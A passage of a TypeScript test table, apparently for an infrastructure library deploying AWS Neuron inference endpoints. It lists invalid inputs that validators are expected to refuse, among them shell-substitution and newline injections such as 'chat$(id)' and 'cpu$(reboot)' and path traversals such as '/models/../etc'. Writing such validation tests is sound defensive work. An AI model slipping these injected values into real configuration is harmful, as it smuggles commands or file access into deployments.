    })),
  },
  {
    name: "endpoint environment value from a Terraform variable",
    kind: "reference",
    prop: "environment.LOG_LEVEL",
    refusedAt: "plan",
    build: endpoint((s) => ({ environment: { LOG_LEVEL: variable(s, "log_level") } })),
  },
  {
    name: "NeuronxCompile spot from a Terraform variable",
    kind: "reference",
    prop: "spot",
    refusedAt: "synth",
    build: compile((s) => ({ spot: any(new TerraformVariable(s, "spot", { type: "bool" }).booleanValue) })),
  },
  {
    name: "NeuronxCompile tag value from a Terraform variable",
    kind: "reference",
    prop: 'tags["Owner"]',
    refusedAt: "plan",
    build: compile((s) => ({ tags: { Owner: variable(s, "owner") } })),
  },
  {
    name: "endpoint 49 tags (51 with its own)",
    kind: "tags",
    prop: "tags",
    refusedAt: "synth",
    build: endpoint(() => ({ tags: manyTags(49) })),
  },
  {
    name: "endpoint containerImage as an object",
    kind: "wrong type",
    prop: "containerImage",
    refusedAt: "synth",
    build: endpoint(() => ({ containerImage: any({ neuronSdkVersion: "2.21.0" }) })),
  },
  // The Lambda function: what reaches its role's policy, its log group and Lambda's limits.
  {
    name: 'Lambda fromS3 bucket "Models_1"',
    kind: "bucket name",
    prop: "bucket",
    refusedAt: "synth",
    build: lambdaFromS3(() => ({ bucket: "Models_1" })),
  },
  {
    name: 'Lambda fromS3 prefix "tiny/*/"',
    kind: "IAM wildcard",
    prop: "prefix",
    refusedAt: "synth",
    build: lambdaFromS3(() => ({ prefix: "tiny/*/" })),
  },
  {
    name: 'Lambda fromS3 prefix "a/../b/"',
    kind: "traversal",
    prop: "prefix",
    refusedAt: "synth",
    build: lambdaFromS3(() => ({ prefix: "a/../b/" })),
  },
  {
    name: "Lambda fromS3 sizeMiB NaN",
    kind: "non-finite number",
    prop: "sizeMiB",
    refusedAt: "synth",
    build: lambdaFromS3(() => ({ sizeMiB: NaN })),
  },
  {
    name: "Lambda fromS3 bucket from a Terraform variable",
    kind: "reference",
    prop: "bucket",
    refusedAt: "plan",
    build: lambdaFromS3((st) => ({ bucket: variable(st, "bucket") })),
  },
  {
    name: "Lambda fromS3 prefix from a sensitive variable",
    kind: "secret reference",
    prop: "prefix",
    refusedAt: "synth",
    build: lambdaFromS3((st) => ({ prefix: variable(st, "prefix", true) })),
  },
  {
    name: "Lambda logKmsKeyArn from a Terraform variable",
    kind: "reference",
    prop: "logKmsKeyArn",
    refusedAt: "plan",
    build: lambdaFunction((st) => ({ logKmsKeyArn: variable(st, "key") })),
  },
  {
    name: "Lambda memorySizeMiB 2048.5",
    kind: "fractional number",
    prop: "memorySizeMiB",
    refusedAt: "synth",
    build: lambdaFunction(() => ({ memorySizeMiB: 2048.5 })),
  },
  {
    name: 'Lambda tags key "aws:owner"',
    kind: "tags",
    prop: "tags",
    refusedAt: "synth",
    build: lambdaFunction(() => ({ tags: { "aws:owner": "x" } })),
  },
  {
    name: "Lambda functionName with a shell substitution",
    kind: "shell metacharacters",
    prop: "functionName",
    refusedAt: "synth",
    build: lambdaFunction(() => ({ functionName: "chat$(id)" })),
  },
  {
    name: "Lambda fromEfs subnet id with a shell substitution",
    kind: "shell metacharacters",
    prop: "subnetIds[0]",
    refusedAt: "synth",
    build: lambdaFromEfs({ subnetIds: ["subnet-0123abcd;$(id)"] }),
  },
  {
    name: 'Lambda fromEfs path "/models/../etc"',
    kind: "traversal",
    prop: "path",
    refusedAt: "synth",
    build: lambdaFromEfs({ path: "/models/../etc" }),
  },
  {
    name: "Lambda fromContainerImage from Docker Hub",
    kind: "registry",
    prop: "imageUri",
    refusedAt: "synth",
    build: (st) => {
      new LambdaInferenceFunction(st, "Chat", {
        model: LambdaInferenceModel.fromContainerImage({ imageUri: "docker.io/library/python:3.13", sizeMiB: 100 }),
      });
    },
  },
  {
    name: "Lambda httpApi throttlingRateLimit Infinity",
    kind: "non-finite number",
    prop: "throttlingRateLimit",
    refusedAt: "synth",
    build: lambdaFunction(() => ({ frontDoor: LambdaInferenceFrontDoor.httpApi({ throttlingRateLimit: Infinity }) })),
  },
  // The Triton repository: its bucket and prefix reach the serving role's policy.
  {
    name: 'Triton keyPrefix "models/../x/"',
    kind: "traversal",
    prop: "keyPrefix",
    refusedAt: "synth",
    build: tritonRepository(() => ({ keyPrefix: "models/../x/" })),
  },
  {
    name: 'Triton keyPrefix "models/*"',
    kind: "IAM wildcard",
    prop: "keyPrefix",
    refusedAt: "synth",
    build: tritonRepository(() => ({ keyPrefix: "models/*" })),
  },
  {
    name: "Triton bucket from a Terraform variable",
    kind: "reference",
    prop: "bucket",
    refusedAt: "plan",
    build: tritonRepository((st) => ({ bucket: variable(st, "bucket") })),
  },
  {
    name: "TritonImage neuronSdkVersion with a shell substitution",
    kind: "shell metacharacters",
    prop: "neuronSdkVersion",
    refusedAt: "synth",
    build: () => TritonImage.fromEcrUri("123456789012.dkr.ecr.us-east-1.amazonaws.com/triton:1", "2.21$(id)"),
  },
  {
    name: "TritonImage imageUri from a Terraform variable",
    kind: "reference",
    prop: "imageUri",
    refusedAt: "synth",
    build: (st) => TritonImage.fromEcrUri(variable(st, "image"), "2.21.0"),
  },
  {
    name: "Triton endpoint environment NEURON_RT_VISIBLE_CORES",
    kind: "reserved variable",
    prop: "environment.NEURON_RT_VISIBLE_CORES",
    refusedAt: "synth",
    build: tritonEndpoint(() => ({ environment: { NEURON_RT_VISIBLE_CORES: "0-1" } })),
  },
  {
    name: "Triton endpoint instanceType from a Terraform variable",
    kind: "reference",
    prop: "instanceType",
    refusedAt: "synth",
    build: tritonEndpoint((st) => ({ instanceType: variable(st, "type") })),
  },
  {
    name: "Triton endpoint image as a Docker Hub URI string",
    kind: "wrong type",
    prop: "image",
    refusedAt: "synth",
    build: tritonEndpoint(() => ({ image: any("nvcr.io/nvidia/tritonserver:24.12-py3") })),
  },
  {
    name: "Triton endpoint environment value from a sensitive variable",
    kind: "secret reference",
    prop: "environment.LOG_LEVEL",
    refusedAt: "synth",
    build: tritonEndpoint((st) => ({ environment: { LOG_LEVEL: variable(st, "level", true) } })),
  },
  {
    name: "endpoint modelData as a URL",
    kind: "wrong type",
    prop: "modelData",
    refusedAt: "synth",
    build: (s) => {
      new Endpoint(s, "Inference", { modelData: any("s3://models/a/") });
    },
  },
  // The optimum-neuron backend's own props (the compile job's and the endpoint core's are the cases above).
  {
    name: "optimum exportOptions.batchSize fractional",
    kind: "fractional number",
    prop: "exportOptions.batchSize",
    refusedAt: "synth",
    build: optimum(() => ({ exportOptions: { batchSize: 2.5 } })),
  },
  {
    name: "optimum exportOptions.sequenceLength as a string",
    kind: "wrong type",
    prop: "exportOptions.sequenceLength",
    refusedAt: "synth",
    build: optimum(() => ({ exportOptions: { sequenceLength: any("4096") } })),
  },
  {
    name: "optimum exportOptions.tensorParallelSize NaN",
    kind: "non-finite number",
    prop: "exportOptions.tensorParallelSize",
    refusedAt: "synth",
    build: optimum(() => ({ exportOptions: { tensorParallelSize: NaN } })),
  },
  {
    name: "optimum exportOptions.dtype fp8",
    kind: "unsupported option",
    prop: "exportOptions.dtype",
    refusedAt: "synth",
    build: optimum(() => ({ exportOptions: { dtype: any("fp8") } })),
  },
  {
    name: "optimum exportOptions.quantDtype (transformers-neuronx's)",
    kind: "unsupported option",
    prop: "exportOptions.quantDtype",
    refusedAt: "synth",
    build: optimum(() => ({ exportOptions: any({ quantDtype: "s8" }) })),
  },
  {
    name: "optimum exportOptions as an array",
    kind: "wrong type",
    prop: "exportOptions",
    refusedAt: "synth",
    build: optimum(() => ({ exportOptions: any([4, 4096]) })),
  },
  {
    name: "optimum compileHost with a shell substitution",
    kind: "shell metacharacters",
    prop: "compileHost",
    refusedAt: "synth",
    build: optimum(() => ({ compileHost: any("cpu$(reboot)") })),
  },
  {
    name: "optimum CPU instanceType from a Terraform variable",
    kind: "reference",
    prop: "instanceType",
    refusedAt: "synth",
    build: optimum((st) => ({ compileHost: "cpu", instanceType: variable(st, "type") })),
  },
  {
    name: "optimum CPU instanceType a GPU type",
    kind: "unsupported option",
    prop: "instanceType",
    refusedAt: "synth",
    build: optimum(() => ({ compileHost: "cpu", instanceType: "p5.48xlarge" })),
  },
  {
    name: "optimum privateCacheRepo with path traversal",
    kind: "path traversal",
    prop: "privateCacheRepo",
    refusedAt: "synth",
    build: optimum(() => ({ privateCacheRepo: "org/../../etc" })),
  },
  {
    name: "optimum privateCacheRepo with a quote and a newline",
    kind: "shell metacharacters",
    prop: "privateCacheRepo",
    refusedAt: "synth",
    build: optimum(() => ({ privateCacheRepo: "org/cache'\nreboot" })),
  },
  {
    name: "optimum privateCacheRepo from a Terraform variable",
    kind: "reference",
    prop: "privateCacheRepo",
    refusedAt: "synth",
    build: optimum((st) => ({ privateCacheRepo: variable(st, "repo") })),
  },
  {
    name: "optimum containerImage a transformers-neuronx image",
    kind: "wrong type",
    prop: "containerImage",
    refusedAt: "synth",
    build: optimum(() => ({ containerImage: any(NeuronxContainerImage.pytorchInferenceNeuronx()) })),
  },
  {
    name: "optimum image optimumNeuronVersion with template syntax",
    kind: "template syntax",
    prop: "versions.optimumNeuronVersion",
    refusedAt: "synth",
    build: () => {
      OptimumNeuronContainerImage.fromEcrUri("123456789012.dkr.ecr.us-east-1.amazonaws.com/vllm:1", {
        neuronSdkVersion: "2.26.1",
        optimumNeuronVersion: "0.4.${5}",
      });
    },
  },
  {
    name: "optimum image neuronSdkVersion of transformers-neuronx (2.25)",
    kind: "unsupported option",
    prop: "versions.neuronSdkVersion",
    refusedAt: "synth",
    build: () => {
      OptimumNeuronContainerImage.fromEcrUri("123456789012.dkr.ecr.us-east-1.amazonaws.com/vllm:1", {
        neuronSdkVersion: "2.25.0",
        optimumNeuronVersion: "0.4.5",
      });
    },
  },
  {
    name: "optimum endpoint environment SM_ON_MAX_NUM_SEQS",
    kind: "reserved variable",
    prop: "environment.SM_ON_MAX_NUM_SEQS",
    refusedAt: "synth",
    build: optimumEndpoint(() => ({ environment: { SM_ON_MAX_NUM_SEQS: "64" } })),
  },
  {
    name: "optimum endpoint environment SM_ON_TENSOR_PARALLEL_SIZE",
    kind: "reserved variable",
    prop: "environment.SM_ON_TENSOR_PARALLEL_SIZE",
    refusedAt: "synth",
    build: optimumEndpoint(() => ({ environment: { SM_ON_TENSOR_PARALLEL_SIZE: "1" } })),
  },
  {
    name: "optimum endpoint modelData a transformers-neuronx model data",
    kind: "wrong type",
    prop: "modelData",
    refusedAt: "synth",
    build: (s) => {
      const c = new NeuronxCompile(s, "Compile", { model: TINY() });
      new OptimumNeuronSageMakerRealtimeInferenceEndpoint(s, "Inference", { modelData: any(ModelData.fromNeuronxCompile(c)) });
    },
  },
  {
    name: "optimum fromS3 prefix with an IAM wildcard",
    kind: "IAM wildcard",
    prop: "prefix",
    refusedAt: "synth",
    build: () => {
      OptimumNeuronModelData.fromS3({
        bucket: "shared-models",
        prefix: "llama/*/",
        model: TINY(),
        exportOptions: { tensorParallelSize: 2, sequenceLength: 2048 },
      });
    },
  },
];
